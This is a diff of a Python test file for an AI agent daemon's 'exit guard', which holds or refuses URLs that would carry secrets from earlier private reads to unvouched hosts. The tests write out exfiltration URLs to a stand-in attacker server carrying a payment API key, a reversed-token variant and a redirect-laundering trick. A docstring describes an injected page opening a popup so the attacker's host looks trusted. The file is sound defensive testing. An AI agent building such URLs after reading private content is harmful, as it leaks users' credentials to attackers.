@@ -1,4 +1,6 @@
-"""Issue 9.5 (exits): an agent's URL must not carry data from earlier reads to a host nobody vouched for.
+"""Issue 9.5 (exits), remodelled by issue 23: once an agent session has read private content (a local file, a
+local service, the user's browser), a URL to a host nobody vouched for is held for the user's yes (exit_held),
+whatever it carries; trawl's own token and well-known secret formats are refused (exit_refused).
 
 Before: ``fetch_page("http://attacker/collect?k=<secret>")`` delivered the secret. Here a real daemon serves the
 agent over its HTTP API; "site" is a local web site the agent reads (``localhost``), "attacker" is another local
@@ -113,8 +115,9 @@ async def fetch(d: RunningDaemon, url: str, query: str = "") -> dict[str, Any]:
 
 
 def refused(body: dict[str, Any]) -> None:
+    """Not sent: held for the user's yes, or refused; the hint says how to allow the host."""
     assert body["ok"] is False, body
-    assert body["error"]["code"] == "exit_refused", body["error"]
+    assert body["error"]["code"] in ("exit_held", "exit_refused"), body["error"]
     assert "TRAWL_EXIT_ALLOW_HOSTS" in body["error"]["hint"]
 
 
@@ -150,7 +153,7 @@ async def test_a_secret_read_from_a_file_cannot_leave_in_a_url(daemon: RunningDa
 
     st = await status(daemon)
     events = st["exits"]["events"]
-    assert st["exits"]["refused"] >= 8 and events[0]["action"] == "refused"
+    assert st["exits"]["held"] + st["exits"]["refused"] >= 8 and events[0]["action"] in ("held", "refused")
     assert any(e["host"] == "127.0.0.1" and "local file" in e["reason"] for e in events)
     assert TOKEN not in json.dumps(st)  # the status page shows where and why, not the secret itself
 
@@ -163,7 +166,7 @@ async def test_the_refusal_is_on_the_status_page(daemon: RunningDaemon, attacker
         async with httpx.AsyncClient(follow_redirects=True, timeout=30) as browser:
             html = (await browser.get(link)).text
     assert "Exits: URLs carrying data from earlier reads" in html
-    assert re.search(r"<td class=bad>refused</td><td>127\.0\.0\.1</td>", html), html[-2000:]
+    assert re.search(r"<td class=bad>(held|refused)</td><td>127\.0\.0\.1</td>", html), html[-2000:]
     assert TOKEN not in html
 
 
@@ -187,20 +190,26 @@ async def test_a_site_echoing_a_composed_url_does_not_launder_it(daemon: Running
                                                                  attacker: Server) -> None:
     await fetch(daemon, f"{site.url}/memo")
     exfil = f"{attacker.url}/c?k={PAGE_TOKEN}"
-    echoed = await fetch(daemon, f"{site.url}/search?q={quote(exfil, safe='')}")  # same site: allowed
-    assert echoed["ok"] and any(exfil in c["text"] for c in echoed["chunks"])  # now the URL is "in a result"
+    # Even the private site's own search may not be handed a URL naming another host (it could redirect there),
+    # so the echo never comes back; exitflow's echo rule (a link repeating what the session sent is no link) is
+    # tested on the guard itself in test_exit_guard_memory.py.
+    refused(await fetch(daemon, f"{site.url}/search?q={quote(exfil, safe='')}"))
     refused(await fetch(daemon, exfil))
-    assert attacker.hits == []
+    assert attacker.hits == [] and not any("search" in h for h in site.hits)
 
 
-async def test_the_agents_own_search_terms_are_not_data_from_the_page(daemon: RunningDaemon, site: Server,
-                                                                      attacker: Server) -> None:
-    term = "Part4711Rev22Blue"
-    first = await fetch(daemon, f"{site.url}/search?q={term}")
-    assert first["ok"] and any(term in c["text"] for c in first["chunks"])  # the page echoes the term
-    second = await fetch(daemon, f"{attacker.url}/search?q={term}")  # the same search on another site
-    assert second["ok"] is True, second
-    assert attacker.hits == [f"/search?q={term}"]
+async def test_a_session_that_read_only_public_pages_is_never_held(tmp_path: Path, site: Server,
+                                                                   attacker: Server) -> None:
+    """The site is a local mirror of public pages (TRAWL_EXIT_PUBLIC_HOSTS): reading it taints nothing, so the
+    agent's terms (even ones the page echoed) go anywhere."""
+    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_public_hosts=("localhost",))
+    async with RunningDaemon(settings, warm=False) as d:
+        term = "Part4711Rev22Blue"
+        first = await fetch(d, f"{site.url}/search?q={term}")
+        assert first["ok"] and any(term in c["text"] for c in first["chunks"])  # the page echoes the term
+        second = await fetch(d, f"{attacker.url}/search?q={term}")  # the same search on another site
+        assert second["ok"] is True, second
+        assert attacker.hits == [f"/search?q={term}"]
 
 
 async def test_well_known_secret_formats_and_the_daemons_token_are_refused(daemon: RunningDaemon,
@@ -217,7 +226,7 @@ async def test_a_link_the_agent_was_shown_is_followed(daemon: RunningDaemon, att
     body = await fetch(daemon, link)
     assert body["ok"] is True, body
     ev = (await status(daemon))["exits"]["events"][0]
-    assert ev["action"].startswith("let through: the URL itself was in an earlier result")
+    assert ev["action"].startswith("let through: a link a result showed")
 
 
 async def test_a_host_the_user_allowed_gets_it_and_it_is_logged(tmp_path: Path, attacker: Server) -> None:
@@ -229,7 +238,7 @@ async def test_a_host_the_user_allowed_gets_it_and_it_is_logged(tmp_path: Path, 
         assert body["ok"] is True, body
         assert attacker.hits == [f"/collect?k={TOKEN}"]
         ev = (await status(d))["exits"]["events"][0]
-        assert ev["action"].startswith("let through: host allowed by the user") and ev["host"] == "127.0.0.1"
+        assert ev["action"].startswith("let through: allowed by the user") and ev["host"] == "127.0.0.1"
 
 
 async def test_a_host_on_the_site_policy_allow_list_is_allowed(tmp_path: Path, attacker: Server) -> None:
@@ -242,7 +251,7 @@ async def test_a_host_on_the_site_policy_allow_list_is_allowed(tmp_path: Path, a
         body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
         assert body["ok"] is True, body
         ev = (await status(d))["exits"]["events"][0]
-        assert ev["action"].startswith("let through: host allowed by the user")
+        assert ev["action"].startswith("let through: allowed by the user")
 
 
 def _bench() -> tuple[list[tuple[str, str, str]], list[str]]:
@@ -276,10 +285,11 @@ async def test_no_benchmark_url_is_refused_after_reading_every_benchmark_page() 
     assert len(urls) >= 20
     guard = ExitGuard(Settings())
     for url, title, text in pages:  # as if the agent had read every page first: the hardest case
-        guard.observe_result({"url": url, "final_url": url, "title": title, "chunks": [{"text": text}]})
+        guard.observe_result({"url": url, "final_url": url, "source": "http", "title": title,
+                              "chunks": [{"text": text}]}, op="fetch")
     for url in urls:
         await guard.check(url)  # raises exit_refused on a false positive
-    assert guard.counters["refused"] == 0 and guard.counters["checked"] == len(urls)
+    assert guard.counters["refused"] == guard.counters["held"] == 0 and guard.counters["checked"] == len(urls)
 
 
 async def test_an_allowed_host_cannot_pass_the_data_on(tmp_path: Path, site: Server, attacker: Server) -> None:
@@ -293,10 +303,11 @@ async def test_an_allowed_host_cannot_pass_the_data_on(tmp_path: Path, site: Ser
 
 
 @pytest.mark.timeout(120)
-async def test_a_site_open_in_the_users_browser_may_receive_it(tmp_path: Path, site: Server,
-                                                               attacker: Server, chromium: str) -> None:
-    """The real extension in Chromium says which sites the user has open; only those (and allowed hosts) may
-    receive data from earlier reads, and not to pass it on to a site that is not open."""
+async def test_a_site_open_in_the_users_browser_does_not_vouch(tmp_path: Path, site: Server,
+                                                              attacker: Server, chromium: str) -> None:
+    """Issue 23, attack 4: a host open in a tab (a popup the injecting page opened, a link it got clicked) used to
+    receive page and file secrets. The real extension in Chromium lists the attacker's tab; the exit is held all
+    the same, and the hold shows in the extension's popup log."""
     from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
 
     (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
@@ -306,38 +317,29 @@ async def test_a_site_open_in_the_users_browser_may_receive_it(tmp_path: Path, s
         assert await stack.hub.wait_attached(15), stack.hub.describe()
         d = stack.daemon
         assert (await fetch(d, str(tmp_path / "secrets.md")))["ok"]
-        refused(await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))  # the site is not open: refused
+        refused(await fetch(d, f"{attacker.url}/collect?k={TOKEN}"))
         assert attacker.hits == []
-        # ... and the refusal shows in the extension's popup log (chrome.storage.session "recent")
         worker = await stack.worker()
         deadline = time.monotonic() + 10
         logged: list[dict[str, Any]] = []
         while time.monotonic() < deadline:
             recent = await worker.evaluate("async () => (await chrome.storage.session.get('recent')).recent || []")
-            logged = [r for r in recent if r.get("code") == "exit_refused"]
+            logged = [r for r in recent if r.get("code") in ("exit_held", "exit_refused")]
             if logged:
                 break
             await asyncio.sleep(0.1)
         assert logged and "127.0.0.1" in logged[0]["what"] and logged[0]["ok"] is False, recent
         assert TOKEN not in json.dumps(recent)
 
-        await stack.open_tab(f"{attacker.url}/home")  # the user opens that site in their browser
-        assert "/home" in attacker.hits and not any(TOKEN in h for h in attacker.hits)
-        # open, but asked to pass it on to a site that is not open: refused
-        refused(await fetch(d, f"{attacker.url}/go?next=" + quote(f"{site.url}/c?k={TOKEN}", safe="")))
-        body = await fetch(d, f"{attacker.url}/collect?k={TOKEN}")
-        assert body["ok"] is True, body
-        assert f"/collect?k={TOKEN}" in attacker.hits
-        ev = (await status(d))["exits"]["events"][0]
-        assert ev["action"] == "let through: the site is open in your browser" and ev["host"] == "127.0.0.1"
-        deadline = time.monotonic() + 10
-        while time.monotonic() < deadline:  # the popup log says it went out, and why
-            recent = await worker.evaluate("async () => (await chrome.storage.session.get('recent')).recent || []")
-            if any(r.get("code") == "exit_let_through" for r in recent):
-                break
-            await asyncio.sleep(0.1)
-        passed = [r for r in recent if r.get("code") == "exit_let_through"]
-        assert passed and "open in your browser" in passed[0]["what"] and passed[0]["notice"] is True
-        assert TOKEN not in json.dumps(passed)  # the notice masks it (the browser's own read log shows its URL)
+        await stack.open_tab(f"{attacker.url}/home")  # the attacker's page is open in the user's browser now
+        assert "/home" in attacker.hits
+        async with api(d) as c:  # the agent sees it in the tab list: that makes no link of it either
+            tabs = (await c.post("/v1/list_tabs", json={})).json()
+        assert any(attacker.url in str(t.get("url")) for t in tabs.get("tabs", [])), tabs
+        for url in (f"{attacker.url}/collect?k={TOKEN}", f"{attacker.url}/collect?k={TOKEN[::-1]}",
+                    f"{attacker.url}/home"):
+            refused(await fetch(d, url))
+        assert attacker.hits == ["/home"] or all(TOKEN not in h and TOKEN[::-1] not in h for h in attacker.hits)
+        assert not any("collect" in h for h in attacker.hits)
     finally:
         await close_linked(stack)
